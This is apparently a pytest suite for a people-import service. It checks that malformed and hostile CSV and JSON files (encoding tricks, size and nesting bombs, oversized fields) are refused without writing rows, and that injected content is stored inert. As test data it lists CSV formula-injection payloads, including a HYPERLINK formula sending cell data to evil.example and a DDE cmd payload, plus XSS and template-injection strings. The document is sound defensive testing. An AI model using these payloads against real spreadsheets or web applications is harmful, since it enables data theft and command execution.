"""Malformed and malicious people files: each is refused with a located error and writes nothing, or is stored inert.

Every file goes through the import service and through ``planner import`` on
SQLite and PostgreSQL. For a refused file, every table is counted before and
after: a refused import writes zero rows, and the CLI exits 2 with one line per
problem and no traceback.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
from collections.abc import Callable
from dataclasses import dataclass

import pytest

from planner.db import repository
from planner.loaders import COLUMNS, MAX_INPUT_BYTES, MAX_REPORTED_ERRORS, InputErrors
from planner.services.people import export_people
from storage.support import TESTER, import_bytes, people_csv, planner, row_counts

HEADER = ",".join(COLUMNS).encode() + b"\n"
ADA = {"employee_id": "E1", "name": "Ada", "email": "ada@acme.example", "team": "core", "track": "business",
       "prompting": 2}


def csv_row(**fields: object) -> bytes:
    return ",".join(str(fields.get(c, "")) for c in COLUMNS).encode() + b"\n"


def nested(depth: int, inner: bytes = b"1") -> bytes:
    return b"[" * depth + inner + b"]" * depth


@dataclass(frozen=True)
class Hostile:
    """A file that must be refused; the first problem reported must match `reason` at `row`/`column`."""

    name: str
    file: str
    build: Callable[[], bytes]
    reason: str
    row: int | None = None
    column: str | None = None

    def __str__(self) -> str:
        return self.name


REFUSED = [
    Hostile("latin-1", "people.csv", lambda: HEADER + csv_row(employee_id="E9", name="Zoë", track="business").decode()
            .encode("latin-1"), r"not UTF-8 text \(byte 0xeb\)", row=2),
    Hostile("utf-16 with BOM", "people.csv", lambda: (HEADER + csv_row(employee_id="E9", name="Zoë", track="business"))
            .decode().encode("utf-16"), r"UTF-16 or UTF-32 text: save it as UTF-8"),
    Hostile("utf-16 without BOM", "people.csv", lambda: HEADER.decode().encode("utf-16-le"), r"binary file"),
    Hostile("NUL byte", "people.csv", lambda: HEADER + b"E9,Nul\x00l,,core,business,,1,,,,,,,\n", r"binary file"),
    Hostile("BOM and nothing else", "people.csv", lambda: b"\xef\xbb\xbf \r\n", r"the file is empty"),
    Hostile("header only", "people.csv", lambda: HEADER + b"\n\n", r"only a header", row=2),
    Hostile("one byte over the size limit", "people.csv", lambda: HEADER + b"x" * (MAX_INPUT_BYTES + 1 - len(HEADER)),
            r"larger than the limit of 67,108,864 bytes"),
    Hostile("millions of tiny rows over the limit", "people.csv",
            lambda: HEADER + b"1\n" * (MAX_INPUT_BYTES // 2 + 1), r"larger than the limit"),
    Hostile("millions of tiny rows under the limit", "people.csv", lambda: HEADER + b"1\n" * 3_000_000,
            r"expected 14 fields, found 1", row=2),
    Hostile("millions of blank records", "people.csv", lambda: HEADER + b",,,,,,,,,,,,,\n" * 3_000_000,
            r"employee id is blank", row=2, column="employee_id"),
    Hostile("a field past the CSV field limit", "people.csv",
            lambda: HEADER + csv_row(employee_id="E9", name="n" * 200_000, track="business"),
            r"unreadable CSV: field larger than field limit", row=2),
    Hostile("a long field", "people.csv",
            lambda: HEADER + csv_row(employee_id="E9", name="n" * 5_000, track="business"),
            r"at most 4096 characters", row=2, column="name"),
    Hostile("deeply quoted field", "people.csv",
            lambda: HEADER + csv_row(employee_id="E9", name='"' + '""' * 100_000 + '"', track="business"),
            r"at most 4096 characters", row=2, column="name"),
    Hostile("unterminated quote to the end of a big file", "people.csv",
            lambda: HEADER + b'E9,"never closed' + b"x" * 1_000_000, r"unreadable CSV", row=2),
    Hostile("quote storm", "people.csv", lambda: HEADER + b'"' * 3_000_001, r"unreadable CSV", row=2),
    Hostile("a 10,000-column row", "people.csv", lambda: HEADER + b",".join([b"x"] * 10_000) + b"\n",
            r"expected 14 fields, found 10000", row=2),
    Hostile("a duplicate header hiding a column", "people.csv", lambda: HEADER.replace(b",email,", b",name,") + b"\n",
            r"missing column", row=1, column="email"),
    Hostile("duplicate header beside every column", "people.csv",
            lambda: HEADER.rstrip() + b",name\n" + csv_row(employee_id="E9", name="A", track="business").rstrip()
            + b",B\n", r"column appears twice", row=1, column="name"),
    Hostile("JSON nesting bomb", "people.json", lambda: nested(200_000), r"nested too deeply"),
    Hostile("JSON nesting bomb inside a field", "people.json",
            lambda: b'[{"employee_id": ' + nested(100_000) + b'}]', r"nested too deeply"),
    Hostile("JSON number of 5,000 digits", "people.json",
            lambda: b'[{"employee_id": "E9", "name": "A", "track": "business", "prompting": ' + b"9" * 5_000 + b"}]",
            r"a number has too many digits"),
    Hostile("JSON level far out of range", "people.json",
            lambda: json.dumps([{"employee_id": "E9", "name": "A", "track": "business", "prompting": 10**300}])
            .encode(), r"level 1000.* is out of range 0-5", row=1, column="prompting"),
    Hostile("JSON object, not a list", "people.json", lambda: b'{"employee_id": "E9"}', r"expected a JSON list"),
    Hostile("JSON million numbers", "people.json", lambda: b"[" + b"1," * 1_000_000 + b"1]",
            r"expected an object", row=1),
    Hostile("JSON field that is an object", "people.json",
            lambda: json.dumps([{"employee_id": "E9", "name": {"$ne": ""}, "track": "business"}]).encode(),
            r"expected a short text or number", row=1, column="name"),
]


@pytest.fixture
def acme(session):
    """An organisation with one person, so a refused import has rows it could have touched."""
    import_bytes(session, people_csv([ADA]))
    return repository.find_organisation(session, name="Acme")


def check_first_problem(problem, case: Hostile) -> None:
    __tracebackhide__ = True
    assert re.search(case.reason, problem.reason), f"{case}: {problem}"
    assert (problem.row, problem.column) == (case.row, case.column), f"{case}: {problem}"
    assert problem.source == case.file


@pytest.mark.parametrize("make_database_url", ["sqlite"], indirect=True)  # the CLI test below covers PostgreSQL
@pytest.mark.parametrize("case", REFUSED, ids=str)
def test_the_import_service_refuses_a_hostile_file_naming_the_problem_and_writes_nothing(session, engine, acme, case,
                                                                                        figure):
    raw = case.build()
    before = row_counts(engine)
    started = time.perf_counter()
    with pytest.raises(InputErrors) as raised:
        import_bytes(session, raw, source=case.file)
    elapsed = time.perf_counter() - started
    check_first_problem(raised.value.errors[0], case)
    assert len(raised.value.errors) <= MAX_REPORTED_ERRORS + 10
    assert row_counts(engine) == before
    if len(raw) > 5_000_000:
        figure("refusing a hostile file", f"{len(raw):,} bytes refused in {elapsed:.2f}s, "
                                          f"{len(raised.value.errors)} problems listed")


@pytest.mark.parametrize("case", [c for c in REFUSED if c.name in (
    "latin-1", "utf-16 with BOM", "NUL byte", "one byte over the size limit", "millions of tiny rows under the limit",
    "a 10,000-column row", "duplicate header beside every column", "JSON nesting bomb",
    "JSON number of 5,000 digits")], ids=str)
def test_planner_import_refuses_a_hostile_file_with_exit_2_one_line_per_problem_and_no_rows(
        migrated_url, acme, tmp_path, case):
    path = tmp_path / case.file
    path.write_bytes(case.build())
    before = row_counts(migrated_url)
    result = planner(migrated_url, "import", str(path), "--org", "Acme")
    assert result.exit_code == 2, result.output
    lines = result.stderr.splitlines()
    assert lines and all(line.startswith(f"planner: {case.file}: ") for line in lines), lines[:3]
    assert "Traceback" not in result.output
    assert row_counts(migrated_url) == before


def test_an_oversized_file_is_refused_after_reading_one_byte_past_the_limit(monkeypatch, tmp_path):
    """`planner import /dev/zero` (or a 100 GB file) is refused at once instead of filling memory."""
    from planner.loaders import read_input

    reads: list[int] = []
    real_open = open

    class Counting:
        def __init__(self, *args, **kwargs):
            self.inner = real_open(*args, **kwargs)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.inner.close()

        def read(self, size=-1):
            reads.append(size)
            return self.inner.read(size)

    monkeypatch.setattr("planner.loaders.open", Counting, raising=False)
    with pytest.raises(InputErrors, match="larger than the limit"):
        read_input("/dev/zero")
    assert reads == [MAX_INPUT_BYTES + 1]


# --- files that are accepted, and stored inert ---------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)",
            "=1+1\t", "%0A=1"]
SCRIPTS = ["<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
           "javascript:alert(1)", "{{ 7*7 }}", "${7*7}"]


def test_formula_cells_are_stored_as_text_and_no_csv_export_cell_would_run_as_a_formula(session, acme):
    people = [{"employee_id": f"F{n}", "name": value, "email": f"f{n}@acme.example", "team": value[:20],
               "track": "business", "manager_id": "E1"} for n, value in enumerate(FORMULAS)]
    import_bytes(session, people_csv([ADA, *people]))
    stored = {p.employee_id: p for p in repository.load_people(session, organisation_id=acme.id)}
    assert [stored[p["employee_id"]].name for p in people] == [v.strip() for v in FORMULAS]
    exported = export_people(session, organisation_id=acme.id, fmt="csv", actor=TESTER)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert sum(cell.startswith("'") for cell in cells) >= len(FORMULAS)


def test_markup_in_names_and_teams_is_stored_verbatim_as_inert_text(session, acme):
    people = [{"employee_id": f"S{n}", "name": value, "team": f"t{n}{value}"[:90], "track": "business",
               "email": f"s{n}+{value.replace(' ', '')[:20]}@acme.example" if "@" not in value else ""}
              for n, value in enumerate(SCRIPTS)]
    import_bytes(session, people_csv([ADA, *people]))
    stored = {p.employee_id: p for p in repository.load_people(session, organisation_id=acme.id)}
    assert [stored[p["employee_id"]].name for p in people] == SCRIPTS
    assert [stored[p["employee_id"]].team for p in people] == [p["team"] for p in people]


def test_a_utf8_bom_and_crlf_line_ends_import_like_a_plain_file(session, acme):
    plain = people_csv([ADA, {**ADA, "employee_id": "E2", "name": "Bo Ñúñez", "manager_id": "E1"}])
    import_bytes(session, b"\xef\xbb\xbf" + plain.replace(b"\n", b"\r\n"))
    people = repository.load_people(session, organisation_id=acme.id)
    assert [(p.employee_id, p.name, p.manager_id) for p in people] == [("E1", "Ada", None), ("E2", "Bo Ñúñez", "E1")]


def test_ten_thousand_unknown_columns_are_ignored_and_store_nothing(session, engine, acme):
    extra = [f"x{n}" for n in range(10_000)]
    header = ",".join([*COLUMNS, *extra]).encode() + b"\n"
    row = csv_row(**{**ADA, "employee_id": "E2", "manager_id": "E1"}).rstrip() + b"," + b",".join(
        b"<script>" for _ in extra) + b"\n"
    before = row_counts(engine)
    result = import_bytes(session, header + row)
    assert (result.created, result.rows) == (1, 1)
    after = row_counts(engine)
    assert after["person"] == before["person"] + 1
    assert after["assessment"] == before["assessment"] + 1  # Ada's one level, nothing from the extra columns
